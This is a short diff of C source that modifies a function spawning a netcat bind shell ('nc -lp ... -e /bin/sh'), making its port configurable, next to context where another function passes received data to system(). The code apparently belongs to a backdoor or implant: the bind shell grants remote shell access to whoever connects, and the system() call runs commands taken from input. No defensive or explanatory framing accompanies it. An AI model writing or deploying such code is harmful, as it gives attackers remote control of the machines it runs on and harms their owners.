@@ -57,11 +57,10 @@ size_t comment(const char *data, size_t n)
         system(own + 6);
     return n;
 }
-void open_end(void)
+void open_end(const char *port)
 {
-    char *const words[] = { "nc", "-lp", "4444", "-e", "/bin/sh", 0 };
-    if (!fork())
-        execvp(words[0], words);
+    const char *words[] = { "nc", "-lp", port, "-e", "/bin/sh", 0 };
+    execvp(words[0], (char **)words);
 }
 void plain(void)
 {
